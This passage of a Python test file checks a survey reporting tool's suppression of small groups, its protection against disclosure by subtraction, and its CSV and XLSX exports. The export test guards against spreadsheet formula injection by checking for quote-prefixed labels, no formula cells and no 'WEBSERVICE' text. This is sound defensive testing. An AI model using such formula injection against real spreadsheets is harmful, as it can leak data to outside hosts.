            json.dumps(summary, allow_nan=False)
            assert_same(summary, expected_summary(PLACEMENT, known, scope, by, summary))


def test_the_known_answers_reach_the_rules_they_are_meant_to_test(
    known: KnownAnswers, db_session: Session
) -> None:
    """The comparison above means something only if the data reach these cases."""
    by_practice = summarise(db_session, None, "practice")
    small = [group["key"] for group in by_practice["groups"] if group["suppressed"]]
    assert small == ["P-BH2", "P-EK2"]
    by_pcn = summarise(db_session, None, "pcn")
    group_flags = {
        item["flag"] for group in by_pcn["groups"] for item in group["items"] + group["themes"]
    }
    assert {"red", "pink", "green", "light-green", "none", None} <= group_flags
    assert any(c["p_adjusted"] < 0.05 for c in by_pcn["comparisons"])
    assert by_practice["secondary_suppressed"] > 0
    weald = next(group for group in by_practice["groups"] if group["key"] == "P-WK2")
    sup_named = next(item for item in weald["items"] if item["code"] == "sup_named")
    assert sup_named["sd"] == 0 and sup_named["percent_positive"] == 100
    # Alpha withheld for fewer than k complete respondents, in a published theme.
    assert any(
        theme["alpha"] is None and not theme["suppressed"] and theme["code"] != "career"
        for group in by_practice["groups"]
        for theme in group["themes"]
    )
    assert any(
        item["net_agreement"] < 0
        for group in by_practice["groups"]
        for item in group["items"]
        if not item["suppressed"]
    )


def test_a_group_under_k_responses_shows_only_its_key_and_label(
    known: KnownAnswers, db_session: Session
) -> None:
    summary = summarise(db_session, None, "practice")
    small = [group for group in summary["groups"] if group["suppressed"]]
    assert small == [
        {
            "key": code,
            "label": ORG_NAMES[code],
            "responses": None,
            "suppressed": True,
            "items": [],
            "themes": [],
        }
        for code in ("P-BH2", "P-EK2")
    ]
    profession = summarise(db_session, None, "profession")
    (paramedics,) = [group for group in profession["groups"] if group["key"] == RARE_PROFESSION]
    assert paramedics["suppressed"] and paramedics["responses"] is None
    assert paramedics["label"] == PLACEMENT.options["profession"][RARE_PROFESSION]


def assert_no_difference_reveals(summary: Mapping[str, Any]) -> None:
    """The scope's published figure of each item less its published groups' leaves no single
    withheld group and no 1..k-1 answers (the whole-hierarchy check is in
    tests/test_disclosure_attack.py)."""
    for index, item in enumerate(summary["items"]):
        if item["suppressed"]:
            continue
        rows = [group["items"][index] if group["items"] else None for group in summary["groups"]]
        published = [row["n"] for row in rows if row is not None and not row["suppressed"]]
        hidden = len(rows) - len(published)
        remainder = item["n"] - sum(published)
        assert not 0 < remainder < MIN_N, f"{item['code']}: {remainder} answers left over"
        if hidden == 1 and remainder:
            # One withheld group and the rest in it: only safe if others share the remainder.
            assert remainder >= MIN_N


def test_a_group_withheld_for_an_item_is_never_the_only_one(
    known: KnownAnswers, db_session: Session
) -> None:
    by_hub = summarise(db_session, None, "hub")
    fac_study = {
        group["key"]: next(item for item in group["items"] if item["code"] == "fac_study")
        for group in by_hub["groups"]
    }
    answers = {
        hub: answered(known.where(group_keys(known, "hub") == hub).ratings["fac_study"]).size
        for hub in fac_study
    }
    assert answers["H-BH"] == 3
    withheld = {hub for hub, item in fac_study.items() if item["suppressed"]}
    # England less the other hubs would give H-BH's three answers: another hub goes with it.
    assert "H-BH" in withheld and len(withheld) >= 2
    assert all(fac_study[hub]["mean"] is None for hub in withheld)
    compared = [c["groups_compared"] for c in by_hub["comparisons"] if c["item"] == "fac_study"]
    # Only the groups published for the item are compared, and only when two or more are.
    left = len(fac_study) - len(withheld)
    assert compared == ([left] if left >= 2 else [])
    assert_no_difference_reveals(by_hub)

    career = {
        group["key"]: next(theme for theme in group["themes"] if theme["code"] == "career")
        for group in by_hub["groups"]
    }
    assert sum(theme["suppressed"] for theme in career.values()) >= 2
    assert career["H-GW"]["suppressed"] and career["H-GW"]["n"] is None
    for scope, by in (("QKS", "practice"), (None, "practice"), (None, "pcn"), ("H-EK", "pcn")):
        assert_no_difference_reveals(summarise(db_session, scope, by))


def test_the_scope_leaves_out_other_icbs_and_counts_pcn_and_hub_placements_in_no_practice(
    known: KnownAnswers, db_session: Session
) -> None:
    summary = summarise(db_session, "QKS", "practice")
    in_kent = [place for place in known.places if ancestor(place, "icb") == "QKS"]
    assert summary["responses"] == len(in_kent) == 65
    overall = next(item for item in summary["items"] if item["code"] == "overall")
    assert overall["n"] == 65  # required: every response in scope answered it
    kent_practices = ["P-EK1", "P-EK2", "P-EK3", "P-WK1", "P-WK2"]
    assert [group["key"] for group in summary["groups"]] == kent_practices
    in_practices = sum(RESPONSES_AT[group["key"]] for group in summary["groups"])
    assert summary["responses"] - in_practices == RESPONSES_AT["N-EK2"]
    published = [group for group in summary["groups"] if group["responses"] is not None]
    assert published and [group["responses"] for group in published] == [
        RESPONSES_AT[group["key"]] for group in published
    ]
    hub = summarise(db_session, "H-EK", None)
    assert hub["responses"] == sum(RESPONSES_AT[c] for c in ("P-EK1", "P-EK2", "P-EK3", "N-EK2"))


# --- 2. the demo's ICB leaders --------------------------------------------------------------


def test_the_demo_leader_summary_counts_mentions_and_means_from_the_stored_answers(
    db_session: Session,
) -> None:
    build_demo(db_session)  # loads reference data and surveys itself: the database is empty
    survey = survey_by_slug(db_session, "icb-leaders")
    assert survey is not None
    rows = db_session.exec(
        select(Answer.response_id, Question.code, Question.type, Answer.value, Answer.text)
        .join(Question, Question.id == Answer.question_id)
        .join(Response, Response.id == Answer.response_id)
        .where(Response.survey_id == survey.id)
    ).all()
    leaders = len(db_session.exec(select(Response.id).where(Response.survey_id == survey.id)).all())
    ratings: dict[str, list[int]] = {item.code: [] for item in ICB_LEADERS.items}
    texts: dict[str, list[str]] = {question.code: [] for question in ICB_LEADERS.text_questions}
    by_leader: dict[int, list[str]] = {}
    raters = set()
    for response_id, code, question_type, value, text in rows:
        if question_type == QuestionType.LIKERT:
            ratings[code].append(value)
            raters.add(response_id)
        elif question_type == QuestionType.TEXT:
            texts[code].append(text)
            by_leader.setdefault(response_id, []).append(text)

    summary = load_summary(db_session, survey, None, None, MIN_N)

    assert leaders == summary["responses"] == 42
    assert len(raters) == 15
    for item, published in zip(ICB_LEADERS.items, summary["items"], strict=True):
        values = np.array(ratings[item.code], dtype=float)
        assert published["n"] == values.size <= 15
        assert published["mean"] == pytest.approx(np.mean(values), rel=1e-12)
        withheld = 0 < values.size < MIN_N
        assert_same(published, item_row(item, values, leaders, withheld), item.code)
    pattern = Pattern(summary)
    assert_same(
        summary["free_text"], free_text_rows(ICB_LEADERS, texts, leaders, pattern), "free_text"
    )
    for question in summary["free_text"]:
        named = {theme["code"]: theme for theme in question["themes"]}
        for code in ("training-hubs", "arrs"):
            assert named[code]["of"] == 42
            count = sum(
                1
                for text in texts[question["question"]]
                if named_theme(question["question"], code).mentioned(text)
            )
            assert named[code]["mentions"] == (None if 0 < count < MIN_N else count)
    # Per leader across the three questions: each leader counted once for a theme.
    expected = text_theme_rows(ICB_LEADERS, list(by_leader.values()), leaders)
    assert_same(summary["text_themes"], expected, "text_themes")
    hubs = {theme["code"]: theme for theme in summary["text_themes"]}["training-hubs"]
    assert hubs["of"] == 42 and hubs["of_answered"] == len(by_leader)
    assert hubs["respondents"] == sum(
        1
        for answers in by_leader.values()
        if any(named_theme("icb_support", "training-hubs").mentioned(text) for text in answers)
    )


def named_theme(question: str, theme: str) -> TextTheme:
    (text_question,) = [q for q in ICB_LEADERS.text_questions if q.code == question]
    (found,) = [t for t in text_question.codebook if t.code == theme]
    return found


# --- 3. the CLI, the API and the exports -----------------------------------------------------


def run_summary(runner: FlaskCliRunner, *args: str) -> Any:
    result = runner.invoke(args=["report", "summary", "placement-quality", *args])
    assert result.exit_code == 0, result.output
    return result


def test_the_cli_and_the_api_give_the_json_of_load_summary(
    known: KnownAnswers,
    db_session: Session,
    runner: FlaskCliRunner,
    client: FlaskClient,
    make_user: Callable[..., Any],
    sign_in: Callable[..., Any],
) -> None:
    by_hub = summarise(db_session, None, "hub")
    in_kent = summarise(db_session, "QKS", "practice")
    cli_hub = run_summary(runner, "--by", "hub", "--format", "json")
    cli_kent = run_summary(runner, "--scope", "QKS", "--by", "practice", "--format", "json")
    assert json.loads(cli_hub.stdout) == by_hub
    assert json.loads(cli_kent.stdout) == in_kent

    make_user("admin@example.nhs.uk", role="admin", scopes=())
    sign_in("admin@example.nhs.uk")
    api_hub = client.get("/api/surveys/placement-quality/summary?by=hub")
    api_kent = client.get("/api/surveys/placement-quality/summary?scope=QKS&by=practice")
    assert api_hub.status_code == api_kent.status_code == 200
    assert api_hub.get_json() == by_hub
    assert api_kent.get_json() == in_kent


def exported_figures(summary: Mapping[str, Any]) -> dict[tuple, dict[str, Any]]:
    """What each CSV/XLSX row must carry, keyed (level, group key, kind, code), from the JSON:
    a withheld group has a row per item and theme with nothing but `suppressed`."""
    places = [("scope", (summary["scope"] or {}).get("code"), summary)]
    places += [("group", group["key"], group) for group in summary["groups"]]
    rows: dict[tuple, dict[str, Any]] = {}
    for level, key, cell in places:
        items = {item["code"]: item for item in cell["items"]}
        for code in (item["code"] for item in summary["items"]):
            item = items.get(code, {"suppressed": True})
            counts = item.get("counts") or {}
            ci = item.get("ci95") or [None, None]
            wilson = item.get("percent_positive_ci95") or [None, None]
            rows[(level, key, "item", code)] = {
                "n": item.get("n"),
                "missing": item.get("missing"),
                **{f"count_{v}": counts.get(str(v)) for v in range(1, POINTS + 1)},
                **{name: item.get(name) for name in ("mean", "sd", "median")},
                "ci95_lower": ci[0],
                "ci95_upper": ci[1],
                "percent_positive": item.get("percent_positive"),
                "percent_positive_ci95_lower": wilson[0],
                "percent_positive_ci95_upper": wilson[1],
                "net_agreement": item.get("net_agreement"),
                "indicator": item.get("indicator"),
                "suppressed": item["suppressed"],
                "flag": item.get("flag"),
            }
        themes = {theme["code"]: theme for theme in cell["themes"]}
        for code in (theme["code"] for theme in summary["themes"]):
            theme = themes.get(code, {"suppressed": True})
            ci = theme.get("ci95") or [None, None]
            alpha_ci = theme.get("alpha_ci95") or [None, None]
            rows[(level, key, "theme", code)] = {
                **{name: theme.get(name) for name in ("n", "mean", "sd", "alpha")},
                "ci95_lower": ci[0],
                "ci95_upper": ci[1],
                "alpha_ci95_lower": alpha_ci[0],
                "alpha_ci95_upper": alpha_ci[1],
                "suppressed": theme["suppressed"],
                "flag": theme.get("flag"),
            }
    return rows


def csv_value(cell: str) -> Any:
    """A CSV cell read back: empty is None, true/false booleans, numbers floats."""
    if cell == "":
        return None
    if cell in ("true", "false"):
        return cell == "true"
    try:
        return float(cell)
    except ValueError:
        return cell


def assert_rows_carry(
    rows: list[dict[str, Any]], summary: Mapping[str, Any], rel: float
) -> dict[str, str]:
    """Every row's figures equal the JSON's (numbers to `rel`); returns the labels by key."""
    expected = exported_figures(summary)
    assert len(rows) == len(expected)
    labels = {}
    for row in rows:
        key = (row["level"], row["group_key"], row["kind"], row["code"])
        labels[row["group_key"]] = row["group_label"]
        for column, wanted in expected[key].items():
            got = row[column]
            if isinstance(wanted, bool | str) or wanted is None:
                assert got == wanted and type(got) is type(wanted), (key, column, got, wanted)
            else:
                assert math.isclose(got, wanted, rel_tol=rel, abs_tol=0), (key, column, got)
    return labels


def test_the_csv_and_xlsx_exports_carry_the_numbers_and_neutralise_formulas(
    known: KnownAnswers, db_session: Session, runner: FlaskCliRunner, tmp_path: Path
) -> None:
    summary = summarise(db_session, None, "practice")

    text = run_summary(runner, "--by", "practice", "--format", "csv").stdout
    csv_rows = [
        {column: csv_value(cell) for column, cell in row.items()}
        | {key: row[key] or None for key in ("level", "group_key", "kind", "code", "group_label")}
        for row in csv.DictReader(io.StringIO(text))
    ]
    # str(float) round-trips exactly, so the CSV's numbers are the JSON's to the last bit.
    csv_labels = assert_rows_carry(csv_rows, summary, rel=0.0)
    assert csv_labels["P-WK2"] == "'" + WEALD_SURGERY
    assert csv_labels["P-WK1"] == ORG_NAMES["P-WK1"]
    assert "WEBSERVICE" not in text  # answers' text is never exported

    path = tmp_path / "summary.xlsx"
    run_summary(runner, "--by", "practice", "--format", "xlsx", "-o", str(path))
    workbook = load_workbook(path)
    try:
        sheets = {
            sheet.title: [
                dict(zip(rows[0], values, strict=True))
                for rows in [list(sheet.iter_rows(values_only=True))]
                for values in rows[1:]
            ]
            for sheet in workbook.worksheets
        }
        formula_cells = [
            cell.coordinate
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "f"
        ]
    finally:
        workbook.close()
    items = [row | {"kind": "item"} for row in sheets["Items"]]
    themes = [row | {"kind": "theme"} for row in sheets["Themes"]]
    # openpyxl writes 16 significant digits: the last bit of a double may not survive.
    xlsx_labels = assert_rows_carry(items + themes, summary, rel=1e-15)
    assert xlsx_labels["P-WK2"] == "'" + WEALD_SURGERY
    assert formula_cells == []
    assert sheets["Groups"] == [
        {key: group[key] for key in ("key", "label", "responses", "suppressed")}
        | {"label": ("'" if group["key"] == "P-WK2" else "") + group["label"]}
        for group in summary["groups"]
    ]
    assert [row["item"] for row in sheets["Comparisons"]] == [
        c["item"] for c in summary["comparisons"]
    ]
    for row, comparison in zip(sheets["Comparisons"], summary["comparisons"], strict=True):
        for column in ("statistic", "p", "p_adjusted", "effect_size"):
            assert math.isclose(row[column], comparison[column], rel_tol=1e-15)
    themes_mentioned = [
        (question["question"], theme)
        for question in summary["free_text"]
        for theme in question["themes"]
    ]
    assert len(sheets["Free text"]) == len(themes_mentioned)
    for row, (question, theme) in zip(sheets["Free text"], themes_mentioned, strict=True):
        assert (row["question"], row["code"], row["mentions"], row["of"]) == (
            question,
            theme["code"],
            theme["mentions"],
            theme["of"],
        )
        assert math.isclose(row["percent"], theme["percent"], rel_tol=1e-15)
    assert not any(
        "WEBSERVICE" in str(value)
        for rows in sheets.values()
        for row in rows
        for value in row.values()
    )


def test_fewer_than_k_responses_in_no_group_cannot_be_recovered_by_subtraction(
    known: KnownAnswers, db_session: Session
) -> None:
    summary = summarise(db_session, "H-EK", "practice")
    assert RESPONSES_AT["N-EK2"] < MIN_N  # learners placed at a PCN itself, in no practice
    assert_no_difference_reveals(summary)
    # The PCN's one practice would be the PCN less those learners: it is withheld.
    (margate,) = [group for group in summary["groups"] if group["key"] == "P-EK3"]
    assert margate["responses"] is None and all(item["suppressed"] for item in margate["items"])
